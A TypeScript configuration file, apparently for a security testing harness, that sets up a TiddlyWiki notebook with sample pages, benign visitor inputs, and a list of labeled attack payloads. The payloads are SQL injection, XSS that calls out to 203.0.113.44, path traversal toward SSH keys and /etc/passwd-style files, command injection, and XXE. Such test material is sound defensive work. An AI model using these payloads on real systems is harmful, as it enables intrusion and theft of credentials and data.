// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold such text literally.
import { type Application, confinedNode } from "../application.ts";

/** One tiddler as its file holds it. */
const tiddler = (title: string, tags: string, text: string) => `title: ${title}\ntags: ${tags}\n\n${text}\n`;

const firstTiddlers = {
  "start.tid": tiddler(
    "Home",
    "",
    "Our shared notebook. See [[Allotment]], [[Choir]], [[Bread]], [[Boat log]], [[Reading list]], [[House rules]] and [[Old letters]].\n\n<<list-links '[tag[todo]]'>>",
  ),
  "allotment.tid": tiddler(
    "Allotment",
    "garden todo",
    "Bed 1: broad beans. Bed 2: garlic, see [[Garlic]]. The water is off until April.",
  ),
  "garlic.tid": tiddler("Garlic", "garden", "Planted in October, 40 cloves. Back to the [[Allotment]]."),
  "choir.tid": tiddler(
    "Choir",
    "music todo",
    "Tuesdays at half past seven. This term: Fauré, and [[Three carols]] for December.",
  ),
  "carols.tid": tiddler("Three carols", "music", "Parts are copied. Altos still need page 4. See [[Choir]]."),
  "bread.tid": tiddler(
    "Bread",
    "kitchen",
    "|!Flour|!Water|!Salt|\n|500 g|340 g|10 g|\n\nThe sourdough is fed on Fridays: [[Sourdough]].",
  ),
  "sourdough.tid": tiddler(
    "Sourdough",
    "kitchen todo",
    "Equal weights. It doubles in five hours when the kitchen is warm. [[Bread]]",
  ),
  "boat.tid": tiddler(
    "Boat log",
    "boat",
    "* Antifouling done\n* Stern gland drips, see [[Stern gland]]\n* Gas locker inspected",
  ),
  "gland.tid": tiddler(
    "Stern gland",
    "boat todo",
    "One drop a minute under way is right. Repack it in [[Boat log]] order.",
  ),
  "reading.tid": tiddler(
    "Reading list",
    "books",
    "# Middlemarch\n# The Living Mountain\n# Piranesi\n\nLent books: [[Old letters]].",
  ),
  "rules.tid": tiddler("House rules", "", "Write it down here before you forget it. Nobody minds how. [[Home]]"),
  "letters.tid": tiddler(
    "Old letters",
    "family",
    "Grandmother's letters, 1951 to 1963, typed up one by one. [[Reading list]]",
  ),
  "default.tid": tiddler("$:/DefaultTiddlers", "", "Home"),
  "site.tid": tiddler("$:/SiteTitle", "", "Lockside notebook"),
  // A plain field to write in, without the frame that the toolbar needs.
  "toolbar.tid": tiddler("$:/config/TextEditor/EnableToolbar", "", "no"),
  // Hardly anybody changes content types; a page of an unknown one is of no use afterwards.
  "type.tid": tiddler("$:/core/ui/EditTemplate/type", "", ""),
};

/** A notebook of small linked pages that saves each of them by PUT; its visitors write, tag and rename pages. */
export const tiddlywiki: Application = {
  name: "tiddlywiki",
  packages: { npm: ["tiddlywiki@5.4.1"] },
  files: () => ({
    "tiddlywiki.info": JSON.stringify({
      description: "Lockside notebook",
      plugins: ["tiddlywiki/tiddlyweb", "tiddlywiki/filesystem", "tiddlywiki/markdown"],
      themes: ["tiddlywiki/vanilla", "tiddlywiki/snowwhite"],
    }),
    ...Object.fromEntries(Object.entries(firstTiddlers).map(([file, text]) => [`tiddlers/${file}`, text])),
  }),
  start: (at) => [
    ...confinedNode(at, "tiddlywiki/tiddlywiki.js"),
    ".",
    "--listen",
    "host=127.0.0.1",
    `port=${at.port}`,
    "anon-username=reader",
  ],
  ready: "/status",
  pages: [
    "/",
    "/#Allotment",
    "/#Choir",
    "/#Bread",
    "/#Boat%20log",
    "/#Reading%20list",
    "/#Old%20letters:[tag[family]]",
    "/#:[tag[todo]]",
    "/Stern%20gland",
    "/recipes/default/tiddlers.json",
  ],
  avoid: /save|download|server|snapshot|export|control panel|close|delete|discard|hide|encrypt/i,
  async reach(page, random) {
    const buttons = page.locator(
      'button[title="Edit this tiddler"]:visible, button[title="Create a new tiddler"]:visible, button[title="Create a new Markdown tiddler"]:visible',
    );
    const isEditing = await page.locator('button[title^="Confirm changes"]:visible').count();
    const count = await buttons.count();
    if (isEditing === 0 && count > 0) await buttons.nth(random.below(count)).click({ timeout: 4_000 });
    await page.waitForTimeout(400);
    const draft = page.locator(".tc-tiddler-edit-frame:visible").first();
    // Searching is done in the browser: it sends nothing.
    return (await draft.count()) > 0 && random.chance(0.9) ? draft : null;
  },
  async submit(page) {
    const confirm = page.locator('button[title^="Confirm changes"]:visible').first();
    if ((await confirm.count()) === 0) return false;
    // A draft is kept while it is written, like anybody's who looks up once more.
    await page.waitForTimeout(1_200);
    await confirm.click({ timeout: 4_000 });
    // Pages are sent a second after they are left.
    await page.waitForTimeout(1_500);
    return true;
  },
  texts: {
    searches: [
      "garlic",
      "stern gland",
      "Fauré",
      "page 4",
      "sourdough friday",
      "who has Middlemarch?",
      "grandmother's letters",
      "[tag[todo]]",
      "[tag[garden]sort[title]]",
      "[all[current]backlinks[]]",
      "[search:title[bread]]",
      "[[Boat log]]",
      "broad beans & onions",
      "50% hydration",
      "TODO!!",
      "antifouling (2026)",
      "lent to Aoife",
      "Weihnachtslied",
      "écluse",
      "手紙",
      "gas locker",
      "1951..1963",
      "key = D minor",
      '"The Living Mountain"',
      "select committee",
      "drop a minute",
      "$:/StoryList",
    ],
    lines: [
      "Rhubarb crumble",
      "Aoife's birthday",
      "garden",
      "todo",
      "to-read",
      "Winter 2026/27",
      "Tenor part (b. 12–48)",
      "Trip to Nîmes",
      "kitchen",
      "What the surveyor said",
      "Journal 14th March 2026",
      "Tom & Bríd's wedding",
      "priority",
      "due",
      "2026-04-01",
      "Quotes: Nan Shepherd",
      "Rope, 12 mm × 30 m",
      "Slugs?",
      "Union branch meeting",
      "Order 66 (the gravel)",
      "Äpfel & Birnen",
      "rating",
      "★★★★☆",
      "ISBN 978-0-14-143954-9",
      "half-done; ask Liam",
      "C:\\Photos\\1957",
      "Ferry — times/prices",
      "家族の写真",
      "Engine hours = 1204.5",
      "Don't forget!",
    ],
    long: [
      "! Frost dates\n\n* Last frost: ''about 24 April''\n* First frost: //usually// mid-October\n\nKeep the fleece on the potatoes until the swallows are back; it's never let us down.",
      '<<list-links "[tag[todo]!tag[done]sort[title]]">>\n\nAnything above that\'s older than a month: do it or drop it.',
      "{{{ [tag[garden]] [tag[kitchen]] +[sort[modified]limit[7]] }}}\n\n(the seven pages of garden and kitchen changed longest ago)",
      '<$list filter="[tag[books]]">\n<$checkbox tag="read"> <$link/></$checkbox><br>\n</$list>\n\n<small>Tick it when you\'ve read it; Piranesi is "out on loan".</small>',
      "|!Date |!Engine hours |!Diesel |\n|2026-03-02 |1201.0 |34 l |\n|2026-03-09 |1204.5 |28 l |\n\nThat is 34 − 28 = 6 l in 3.5 h, so ≈ 1.7 l/h. Not bad for a 1978 engine.",
      "Dear Maud,\n\nYour parcel came on Thursday; the children fell upon it \"like wolves\" & the marmalade didn't see the weekend. Father's chest is better. We've let the top field to O'Brien for £4 an acre.\n\nYour loving sister,\nE.",
      "Rehearsal notes: bars 12–48 too loud (p, not mf!); basses late at C; \"lux perpetua\" has ''two'' syllables in -tua. Next week from the top; bring pencils.",
      'Script that makes the backup, so that I\'m not the only one who knows:\n\n```\n#!/bin/sh\nset -e\ncd "$HOME/notebook" && git add -A\ngit commit -qm "$(date +%F)" || true\nrsync -a --delete ./ nas:/backup/notebook/\n```',
      "$$E = \\frac{1}{2}mv^2$$ with m = 14 t and v = 1.8 m/s gives roughly 23 kJ: that's why you never fend off with a foot.",
      '\\define fed(days) <span class="starter">fed $days$ days ago</span>\n\n<<fed 3>> It smells of apples; if it smells of nail varnish it\'s hungry. Flour : water = 1 : 1.',
      "Montag: Garten umgegraben, Knoblauch kommt schon (!). Für die Beete 3 und 4 fehlt noch Kompost – Herr Özdemir bringt am Samstag welchen mit, »wenn's nicht schüttet«.",
      "''Lock times''\n\nKeeper on duty 8–18; otherwise use the ~WindlassKey. https://example.org/waterways/locks?from=12&to=19#times has stoppages. Don't leave paddles up; the pound above drains in ~40 min.",
      '> The thing to be known grows with the knowing.\n\nNan Shepherd, p. 108. Compare with [[Middlemarch]] ch. 20 ("the roar which lies on the other side of silence").',
      "Who's left to ask for the wedding?\n\n# Siobhán + 1\n# the Kowalczyks (4; one's vegan)\n# d'Angelo & Söhne, for the cake\n\nBudget: 60% food, 25% band, 15% \"whatever Liam breaks\".",
      "日曜日：祖母の手紙を三通タイプした。1957年の分はあと五通。「お元気ですか」で始まるものが多い。🙂",
      "<table>\n<tr><th>Crop</th><th>Sow</th></tr>\n<tr><td>Leeks</td><td>March</td></tr>\n<tr><td>Kale</td><td>May</td></tr>\n</table>\n\n<!-- copied from the society's leaflet -->",
      "Sold: 14 jars @ £3.50 = £49.00; costs £11.20. Select the better labels next time, the ones from the union of smallholders fell off where the jars got wet.",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "Allotment' UNION ALL SELECT NULL,CONCAT(0x7178,user(),0x7a71),NULL,NULL#" },
    { class: "sql_injection", payload: "garden') AND (SELECT 4821 FROM (SELECT(SLEEP(6)))nQzT) AND ('hRwo'='hRwo" },
    { class: "sql_injection", payload: "-7312' OR 6650=6650 AND 'tid'='tid" },
    { class: "sql_injection", payload: "todo';SELECT PG_SLEEP(8)--" },
    {
      class: "sql_injection",
      payload:
        "x' AND EXTRACTVALUE(2209,CONCAT(0x5c,(SELECT GROUP_CONCAT(table_name) FROM information_schema.tables)))-- kLmP",
    },
    { class: "sql_injection", payload: "Home' AND 3 IN (SELECT @@version)-- " },
    {
      class: "xss",
      payload:
        "<$button actions='x'><iframe srcdoc=\"<script>top.fetch('//203.0.113.44/'+top.localStorage.length)</script>\"></iframe></$button>",
    },
    { class: "xss", payload: "<details open ontoggle=import('//203.0.113.44/t.js')>read more</details>" },
    {
      class: "xss",
      payload:
        "[img[x\" onerror=\"eval(atob('YWxlcnQoMSk='))]]<img src=q onerror=\"window['al'+'ert'](document.cookie)\">",
    },
    { class: "xss", payload: '<math><a xlink:href="javascript:prompt(document.domain)">Old letters</a></math>' },
    {
      class: "xss",
      payload: '<style>@keyframes k{}</style><b style="animation-name:k" onanimationstart="alert(origin)">Bread</b>',
    },
    { class: "path_traversal", payload: "..%2F..%2F..%2F..%2Froot%2F.ssh%2Fid_rsa" },
    { class: "path_traversal", payload: "files/../../../../../../../../proc/self/cmdline" },
    { class: "path_traversal", payload: "..\\..\\..\\..\\..\\windows\\win.ini" },
    { class: "path_traversal", payload: "%252e%252e%252f%252e%252e%252ftiddlywiki.info%00.tid" },
    { class: "command_injection", payload: "notes.tid; nslookup q7.203-0-113-44.example;#" },
    { class: "command_injection", payload: "${require('child_process').execSync('id;uname -a')}" },
    {
      class: "command_injection",
      payload: "<%= global.process.mainModule.require('child_process').execSync('cat /etc/passwd') %>",
    },
    { class: "command_injection", payload: "Bread&&whoami||powershell -nop -enc SQBFAFgA" },
    {
      class: "xxe",
      payload:
        '<!DOCTYPE tiddler [<!ENTITY % ext SYSTEM "http://203.0.113.44/n.dtd"> %ext; %send;]><tiddler title="Home">&leak;</tiddler>',
    },
  ],
};
